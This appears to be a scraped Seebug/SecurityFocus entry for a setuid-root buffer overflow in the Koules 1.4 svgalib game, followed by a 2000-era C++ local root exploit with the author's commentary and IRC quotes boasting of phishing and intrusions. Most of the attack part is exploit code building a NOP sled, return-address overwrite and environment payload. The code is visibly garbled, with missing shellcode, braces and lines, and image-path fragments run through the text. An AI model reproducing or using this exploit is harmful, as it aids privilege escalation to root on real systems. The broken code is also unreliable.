Jan Hubicka Koules 1.4 Svgalib Buffer Overflow Vulnerability

ID SSV:74290
Type seebug
Reporter Root
Modified 2014-07-01T00:00:00


No description provided bysource.

                                                source : http://www.securityfocus.com/bid/1967/info

Koules is an original, arcade-style game authored by Jan Hubicka. The version usingsvgalib is usually installed setuid root so that it may access video hardware when being run at the console by regular users. This version contains a buffer overflow vulnerability that may allow a user to gain higher priviledges. The vulnerability exists in handling of user-supplied commandline arguments.

Successful exploitation ofthis vulnerability leads to root compromise. Debian has announced they are not vulnerable to this problem.

   Coolz.cpp - yep a C Plus Plus exploit, I like that Strings STL :)

   This problem has been known since April this year, but I have not
   seen any exploit so far.

   First of all I wasn't planning to go and release another ordinary stack
   smash, but I found the setuid game on some wargame/hackme I played on.
   Funny thing was that the exploitability proved to be a bit harder than I
   had anticipated at first.The problem can be found in the Koules1.4 package, code file:
      koules.sndsrv.linux.c - function: init()

   The `int i` disappears in the optimization gcc does. Since the strcat()
   function concatenates an array of filenames, `argv` gets ruined.
   This will cause the first run of the loop to fail.
   If argv point somewhere into adressable memory space, the chances of
   having a second pointer in there are close to zero, thus the second loop
   will fail.
   Last of all, if the argv[1] does point to a valid address the string
   contained there shouldn't be long enough to overwrite eip a second time,
   since that gets us into trouble. That's about it :)
   Even then, this ONLY works on machines that have compiled SVGALIB supportin and NOT on the X windows version of 'koules'.

  Requested IRCquotes:
    <dagger02> ik heb jeuk aan me ballen.

    <marshal-> waar ben jij nu mee bezig man
    <sArGeAnt> nog een keer sukkel
    <sArGeAnt> en je ken es lekker kijken hoe packetjes je modem binnen komen

    <gmd-> sex ?

    <orangehaw> Scrippie HOU JE MOND OF Ik PACkEt Je ? ;)

    <silvio> chicks dig me when i place a bet, cause the mandelbrot sucks
             compare to the julia set<jimjones> 4 years ago there was no aol account i couldnt phish, now my
               unix virii grow faster than the petry dish

    <dugje>  I've seen nasa.gov navy.mil compaq.com and microsoft.com, there
             is only one goal left .. *.root-servers.net.

   Love goes out to: Hester and Maja
   Shouts go out to: Aad de Bruin, Karel Roos, L.G. Weert, Louis Maatman,
                     Richard Vriesde.
             --  We always did feel the same, we just saw it from a
                  different point of view...
                      [Bob Dylan - Tangled up in Blue]

<Scrippie> vraag me af wat ze zullen doen bij klpd als ze dat lezen (:
<dugje> ghehe ... je een plaatsje hoger zetten op de priority list ..

   -- Scrippie/ronald@grafix.nl

/* Synnergy.net (c) 2000 */#include <cstdio>
#include <string>
#include <cstdlib>
#include <unistd.h>

#define FILENAME "/usr/local/lib/koules/koules.sndsrv.linux"

#define NOP     'A'
#define NUMNOPS 500
#define RETADDY "\x90\xfe\xff\xbf"
/* Since we return in the cleared environment, we don't need to have a
   return address we can influence by command line "offset" arguments */

string heavenlycode =

char *addytostr(unsigned char *);

using namespace std;

   string payload, vector;
   unsigned int i;
   const char*env[3];
   const char *ptr_to_bffffffc;

   /* Construction of our payload */
   payload.append(NUMNOPS, NOP);

   env[0] = payload.c_str();
   /* This memory address always contains 0x00000000 */
   env[1] = "\xfc\xff\xff\xbf";
   env[2] = NULL;

   /* Calculate for yourself, and check out: linux/fs/exec.c */
   ptr_to_bffffffc =
        addytostr((unsigned char *)(0xc0000000-sizeof(void *)-sizeof(FILENAME)-sizeof(heavenlycode)-sizeof(char *)-1));

   for(i=0;i<256;i++) {
      vector.append(RETADDY);           /* Fill the buffer */
   /* We do NOT overwrite 'int i' - a register is used after gcc -O */
   vector.append(RETADDY);              /* Overwrites ebp */
   vector.append(RETADDY);              /* Overwrites eip */
   vector.append(ptr_to_bffffffc);      /* Overwrites argv argument */

   execle(FILENAME, "Segmentation fault (core dumped)", vector.c_str(), "A",NULL, env);


char *addytostr(unsigned char *blaat)
   char *ret;

   if(!(ret = (char *)malloc(sizeof(unsigned char *)+1))) {
   memcpy(ret, &blaat,sizeof(unsigned char*));
   ret[sizeof(unsigned char *)] = 0x00;